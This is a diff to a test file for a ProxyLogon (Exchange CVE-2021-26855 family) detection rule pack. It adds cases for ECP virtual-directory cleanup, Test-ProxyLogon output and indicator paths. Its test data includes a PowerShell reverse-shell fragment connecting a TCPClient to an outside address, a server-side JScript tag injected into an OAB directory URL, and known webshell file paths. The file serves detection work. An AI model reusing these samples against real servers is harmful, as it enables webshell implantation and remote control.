@@ -88,6 +88,7 @@ const log = "iis_w3c";
 const es = "exchange_ecp_server";
 const tplHit = "test_proxylogon_hit";
 const tplPath = "test_proxylogon_path";
+const tplClaim = "test_proxylogon_claim";
 const machine = { "cs-username": "CONTOSO\\EX01$" };
 
 /** Rule, kind, a row it must be the only finding of, and a near row that must not give it. */
@@ -303,6 +304,20 @@ const cases: [string, string, Fields, Fields][] = [
     { Cve: "CVE-2021-27065", Role: "ecp_log", Path: "C:\\x.log", Server: "EX01" },
     { Cve: "CVE-2021-26858", Role: "oab_log", Path: "C:\\x.log", Server: "EX01" },
   ],
+  ...["CVE-2021-26855", "CVE-2021-26857", "CVE-2021-26858", "CVE-2021-27065"].map(
+    (cve): [string, string, Fields, Fields] => [
+      `tpl-console-${cve.slice(-5)}`,
+      tplClaim,
+      { Cve: cve, Said: `[${cve}] Suspicious activity found`, Server: "EX01" },
+      { OtherFiles: "2", Said: "Other suspicious files found: 2", Server: "EX01" },
+    ],
+  ),
+  [
+    "tpl-console-other-files",
+    tplClaim,
+    { OtherFiles: "2", Said: "Other suspicious files found: 2", Server: "EX01" },
+    { Cve: "CVE-2021-26855", Said: "[CVE-2021-26855] Suspicious activity found", Server: "EX01" },
+  ],
   [
     "tpl-lsass-dump",
     "test_proxylogon_file",
@@ -348,7 +363,7 @@ describe("Every rule of the pack", () => {
   );
 
   it("is tried here", () => {
-    const elsewhere = ["httpproxy-config-restored", "iis-webshell-scanner"];
+    const elsewhere = ["ecp-vdir-cleanup", "httpproxy-config-restored", "iis-webshell-scanner"];
     expect([...cases.map(([name]) => name), ...elsewhere].sort()).toEqual(pack.rules.map(({ name }) => name).sort());
   });
 
@@ -376,6 +391,12 @@ describe("Ordinary rows", () => {
       es,
       ecp("Set-OwaVirtualDirectory.InternalUrl='https://ex01.contoso.example:8443/owa'.Identity='x'"),
     ],
+    [
+      "an administrator setting a host whose name holds a word of script",
+      es,
+      set("'https://servicerequest.contoso.example/OAB'"),
+    ],
+    ["an administrator setting a host named after a language", es, set("'https://jscript.page-load.example/runat'")],
     [
       "an administrator reading a directory",
       es,
@@ -428,6 +449,90 @@ describe("Severity and stage", () => {
     expect(names([change, write, { ...change, ClientIpAddress: "198.51.100.1" }])).toEqual([
       ["httpproxy-config-written", 2],
       ["httpproxy-file-written", 1],
+    ]);
+  });
+
+  it("call the change before another write a change, however many times the chain is walked", () => {
+    const change = anchor(ddi("SetObject", "OABVirtualDirectory"));
+    const write = anchor(ddi("SetObject", "ResetOABVirtualDirectory"));
+    const counts = (rows: Fields[], seconds = 1) => {
+      const start = Date.parse("2021-03-03T06:49:00Z");
+      const { findings } = detect(
+        rows.map((fields, index) => ({ kind: hp, fields, at: start + index * seconds * 1000 })),
+      );
+      const of = (stage: string) => findings.find((finding) => finding.stage === stage)?.count ?? 0;
+      return [of("write_config"), of("file_written"), of("cleanup")];
+    };
+    expect(counts([change, write, change, change, write])).toEqual([2, 2, 1]);
+    expect(counts([change, write, change, write, change])).toEqual([2, 2, 1]);
+    expect(counts([change, write, change, write])).toEqual([2, 2, 0]);
+    expect(counts([change, write, change, change])).toEqual([2, 1, 1]);
+    expect(counts([change, write, change], 400)).toEqual([2, 1, 0]);
+  });
+
+  it("call the emptying of a directory clean-up only within a minute after script was put into that directory", () => {
+    const start = Date.parse("2021-03-03T06:49:53Z");
+    const guid = "982d48c8-0000-4000-8000-000000000000";
+    const script = set(`'http://f/<script language="JScript" runat="server">x</script>'`);
+    const remove = ecp(`Remove-OabVirtualDirectory.Identity='${guid}'`);
+    const create = ecp("New-OabVirtualDirectory.WebSiteName='Default Web Site'");
+    const found = (...rows: [number, Fields][]) =>
+      byName(detect(rows.map(([seconds, fields]) => ({ kind: es, fields, at: start + seconds * 1000 }))).findings).map(
+        ({ ruleName, stage, severity, count }) => [ruleName, stage, severity, count],
+      );
+    expect(found([0, script], [20, set("$null")], [21, remove], [22, create])).toEqual([
+      ["ecp-vdir-cleanup", "cleanup", "high", 1],
+      ["ecp-vdir-cleanup", "cleanup", "high", 1],
+      ["ecp-vdir-cleanup", "cleanup", "high", 1],
+      ["ecp-vdir-script-url", "write_config", "critical", 1],
+    ]);
+    const other = { ...remove, "S:CMD": "Remove-OabVirtualDirectory.Identity='11111111-0000-4000-8000-000000000000'" };
+    expect(found([0, script], [20, other], [61, set("$null")])).toEqual([
+      ["ecp-vdir-reset", null, "medium", 1],
+      ["ecp-vdir-script-url", "write_config", "critical", 1],
+      ["ecp-vdir-url-cleared", null, "low", 1],
+    ]);
+    expect(found([0, set("$null")])).toEqual([["ecp-vdir-url-cleared", null, "low", 1]]);
+    const reset = { ...remove, "S:URL": "/ecp/DDI/DDIService.svc/SetObject?schema=ResetOABVirtualDirectory" };
+    expect(found([0, script], [5, reset], [14, set("''")])).toEqual([
+      ["ecp-vdir-cleanup", "cleanup", "high", 1],
+      ["ecp-vdir-reset", null, "medium", 1],
+      ["ecp-vdir-script-url", "write_config", "critical", 1],
+    ]);
+  });
+
+  it("treat a row that Test-ProxyLogon lists as they treat the row of the log", () => {
+    const row = { Cve: "CVE-2021-26855", Server: "EX01", ClientIpAddress: "203.0.113.21", UrlStem: "/ecp/y.js" };
+    const reset = `ServerInfo~a]@ex01:444${ddi("SetObject", "ResetOABVirtualDirectory")}`;
+    const of = (kind: string, fields: Fields) =>
+      detect([{ kind, fields }]).findings.map(({ ruleName, severity, stage }) => [ruleName, severity, stage]);
+    for (const [status, expected] of [
+      ["500", ["httpproxy-step-failed", "medium", "probe"]],
+      ["200", ["httpproxy-file-written", "critical", "file_written"]],
+    ] as const) {
+      expect(of(hp, anchor(ddi("SetObject", "ResetOABVirtualDirectory"), status))).toEqual([expected]);
+      expect(of(tplHit, { ...row, AnchorMailbox: reset, HttpStatus: status })).toEqual([expected]);
+    }
+    expect(of(tplHit, { ...row, Cve: "CVE-2021-27065", AnchorMailbox: reset, HttpStatus: "500" })).toEqual([
+      ["httpproxy-step-failed", "medium", "probe"],
+    ]);
+    expect(of(tplHit, { ...row, Cve: "CVE-2021-27065", AnchorMailbox: "", HttpStatus: "500" })).toEqual([
+      ["tpl-26855-hit", "medium", null],
+    ]);
+  });
+
+  it("say that a page which answered is there, and that one which was posted to was used", () => {
+    const of = (method: string, stem: string) =>
+      detect([{ kind: log, fields: iis(method, stem, "200") }]).findings.map(({ proposes }) => proposes)[0];
+    for (const stem of ["/owa/auth/RedirSuiteServerProxy.aspx", "/aspnet_client/unknown.aspx"])
+      expect([of("GET", stem), of("HEAD", stem), of("POST", stem)]).toEqual(["implanted", "implanted", "operated"]);
+  });
+
+  it("show what an ECP row sets among the entities", () => {
+    const [finding] = detect([{ kind: es, fields: set("'file://x'") }]).findings;
+    expect(finding?.entities.urls.values.toSorted()).toEqual([
+      "/ecp/DDI/DDIService.svc/SetObject",
+      "Set-OabVirtualDirectory.ExternalUrl='file://x'.Identity='982d48c8-0000-4000-8000-000000000000'",
     ]);
   });
 
@@ -498,6 +603,54 @@ describe("Indicators", () => {
       }),
     );
     expect(seen).toContainEqual(expect.objectContaining({ cluster: "UNC2640", strength: "stated", type: "md5" }));
+  });
+
+  it.each([
+    "FrontEnd/HttpProxy/owa/auth/OutlookZH.aspx",
+    "V15/FrontEnd/HttpProxy/owa/auth/OutlookZH.aspx",
+    "C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\OutlookZH.aspx",
+  ])("see a known path wherever an archive begins, once, with every list that names it: %s", (path) => {
+    const detector = createDetector(knowledge, { sourceId: "evidence-2", server: "EX01" });
+    detector.file({ path, yara: [] });
+    const findings = detector.result().findings.filter(({ ruleName }) => ruleName === "indicator-filepath");
+    expect(findings).toEqual([
+      expect.objectContaining({ count: 1, indicatorIds: ["ioc-097", "ioc-146"], proposes: "implanted" }),
+    ]);
+    expect(findings[0]?.samples[0]?.why.map(({ test }) => test)).toEqual([
+      "is the indicator ioc-097 (filepath)",
+      "is the indicator ioc-146 (filepath)",
+    ]);
+  });
+
+  it("see a known path below the root of the web server", () => {
+    const detector = createDetector(knowledge, { sourceId: "evidence-2", server: "EX01" });
+    detector.file({ path: "inetpub/wwwroot/aspnet_client/supp0rt.aspx", yara: [] });
+    expect(detector.result().findings.map(({ ruleName }) => ruleName)).toContain("indicator-filepath");
+  });
+
+  it("count a socket client only as part of the reverse shell it is listed for", () => {
+    const shell =
+      "$c = New-Object System.Net.Sockets.TCPClient('203.0.113.5',443);$s = $c.GetStream();$s.Write($b,0,9)";
+    const seen = (command: string) =>
+      sightings("process", { CommandLine: command }).filter(([, value]) => value?.includes("TCPClient"));
+    expect(seen(shell)).toHaveLength(1);
+    expect(seen("(New-Object Net.Sockets.TCPClient).Connect('ex01', 443)")).toEqual([]);
+  });
+
+  it("keep the weight of each listed address, whichever comes first", () => {
+    const rows = ["103.77.192.219", "165.232.154.116"].map((ip) => ({
+      kind: log,
+      fields: iis("GET", "/owa/", "200", { "c-ip": ip }),
+    }));
+    for (const order of [rows, rows.toReversed()])
+      expect(
+        detect(order)
+          .findings.map(({ entity, severity }) => [entity, severity])
+          .toSorted(([left = ""], [right = ""]) => String(left).localeCompare(String(right))),
+      ).toEqual([
+        ["103.77.192.219", "medium"],
+        ["165.232.154.116", "high"],
+      ]);
   });
 
   it("name those that wait for other kinds of evidence", () => {
